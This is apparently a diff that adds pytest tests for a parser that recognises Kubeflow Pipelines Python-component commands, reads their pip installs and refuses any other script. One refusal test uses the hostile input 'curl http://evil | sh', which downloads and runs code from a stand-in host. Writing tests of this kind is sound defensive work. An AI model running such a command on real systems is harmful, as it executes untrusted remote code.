@@ -1,0 +1,130 @@
+"""Which container commands are lightweight Python components, and what they ask to be installed."""
+
+import json
+from pathlib import Path
+
+import pytest
+import yaml
+
+from zeroflow.functions.step.command import recognise
+from zeroflow.functions.step.environments import satisfied
+from zeroflow.functions.step.errors import Unsupported
+
+PIP = "python3 -m pip install --quiet --no-warn-script-location"
+ENSURE = """
+if ! [ -x "$(command -v pip)" ]; then
+    python3 -m ensurepip || python3 -m ensurepip --user || apt-get install python3-pip
+fi
+
+"""
+PROGRAM = """program_path=$(mktemp -d)
+
+printf "%s" "$0" > "$program_path/ephemeral_component.py"
+_KFP_RUNTIME=true python3 -m {module}                         --component_module_path                         \
+"$program_path/ephemeral_component.py"                         "$@"
+"""
+ARGS = ["--executor_input", "{{$}}", "--function_to_execute", "f"]
+
+
+def executor(commands=None, module="kfp.dsl.executor_main", args=ARGS, ensure=ENSURE):
+    install = ["sh", "-c", f'{ensure}PIP_DISABLE_PIP_VERSION_CHECK=1 {commands} && "$0" "$@"\n'] if commands else []
+    return {"image": "i", "command": [*install, "sh", "-ec", PROGRAM.format(module=module), "SOURCE"], "args": args}
+
+
+KFP = f"{PIP} 'kfp==2.17.0' '--no-deps' 'typing-extensions>=3.7.4,<5; python_version<\"3.9\"'"
+
+
+@pytest.mark.parametrize(
+    ("given", "expected"),
+    [
+        pytest.param(executor(), [], id="nothing-to-install"),
+        pytest.param(executor(KFP), [], id="kfp-only"),
+        pytest.param(
+            executor(f"{PIP} 'kfp==2.0.0-beta.13'", "kfp.components.executor_main", ensure=""), [], id="2.0-beta"
+        ),
+        pytest.param(
+            executor(f"{PIP} 'pandas==2.2.0' 'b>1'  &&  {KFP}"), [(("pandas==2.2.0", "b>1"), ())], id="before"
+        ),
+        pytest.param(executor(f"{KFP}  &&  {PIP} 'pandas'"), [(("pandas",), ())], id="after"),
+        pytest.param(
+            executor(f"{PIP} --index-url https://x/simple --trusted-host https://x/simple 'a' && {KFP}"),
+            [(("a",), ("--index-url", "https://x/simple", "--trusted-host", "https://x/simple"))],
+            id="index",
+        ),
+        pytest.param(
+            executor(
+                f"{PIP} 'a'  &&  \nexport PIP_DISABLE_PIP_VERSION_CHECK=1\ntmp=$(mktemp -d)\n"
+                f'python3 -m venv "$tmp/venv" --system-site-packages\n. "$tmp/venv/bin/activate"\n {KFP}'
+            ),
+            [(("a",), ())],
+            id="use-venv",
+        ),
+    ],
+)
+def test_what_the_sdk_compiles_is_read(given, expected):
+    component = recognise(given)
+    assert (component.source, component.function) == ("SOURCE", "f")
+    installs = [(i.requirements, i.options) for i in component.installs]
+    assert [i for i in installs if not i[0][0].startswith("kfp")] == expected
+
+
+@pytest.mark.parametrize(
+    ("given", "part"),
+    [
+        pytest.param({"image": "alpine", "command": ["echo"], "args": ["x"]}, "container component (image alpine: echo x)", id="container"),
+        pytest.param({"image": "x"}, "container component", id="empty"),
+        pytest.param(
+            {"image": "own", "command": ["python3", "-m", "kfp.dsl.executor_main"], "args": ARGS},
+            "containerized Python component (image own)",
+            id="containerized",
+        ),
+        pytest.param(executor(args=[*ARGS, "--more", "x"]), "--executor_input", id="more-arguments"),
+        pytest.param(executor(args=[*ARGS[:3], "os.system"]), "--executor_input", id="no-function-name"),
+        pytest.param(executor("curl http://evil | sh"), "not one that the KFP SDK writes", id="other-script"),
+        pytest.param(executor(f"{PIP} --target=/ 'a' && {KFP}"), "--target=/", id="pip-option"),
+        pytest.param({**executor(), "command": ["sh", "-ec", "echo $0", "SOURCE"]}, "container component", id="other-program"),
+        pytest.param({"command": "sh"}, "executor.command", id="no-list"),
+    ],
+)  # fmt: skip
+def test_anything_else_is_refused_with_what_it_is(given, part):
+    with pytest.raises(Unsupported, match=part.replace("(", r"\(").replace(")", r"\)")):
+        recognise(given)
+
+
+def test_every_official_pipeline_is_recognised_or_refused_by_kind(contracts: Path):
+    """In index.json, a pipeline is of lightweight components only when it runs neither containers nor images of its own."""
+    recognised = refused = 0
+    for path in sorted((contracts / "kfp" / "pipelines").rglob("*.yaml")):
+        for document in yaml.safe_load_all(path.read_text()):
+            for spec in ((document or {}).get("deploymentSpec") or {}).get("executors", {}).values():
+                container = spec.get("container")
+                if container is None:
+                    continue
+                python = "ephemeral_component.py" in json.dumps(container.get("command", []))
+                if python:
+                    assert recognise(container).source.strip().startswith(("import", "\nimport"))
+                    recognised += 1
+                else:
+                    with pytest.raises(Unsupported):
+                        recognise(container)
+                    refused += 1
+    assert recognised > 200
+    assert refused > 20
+
+
+@pytest.mark.parametrize(
+    ("requirement", "expected"),
+    [
+        ("flask", True),
+        ("flask>=3", True),
+        ("Flask<1", False),
+        ("no-such-package", False),
+        ("no-such-package; python_version < '3'", True),
+        ("sqlalchemy[asyncio]", True),
+        ("flask @ https://example.com/flask.whl", False),
+        ("git+https://example.com/x.git", False),
+        ("./flask.whl", False),
+    ],
+)
+def test_what_the_environment_has(requirement, expected):
+    assert satisfied(requirement) is expected
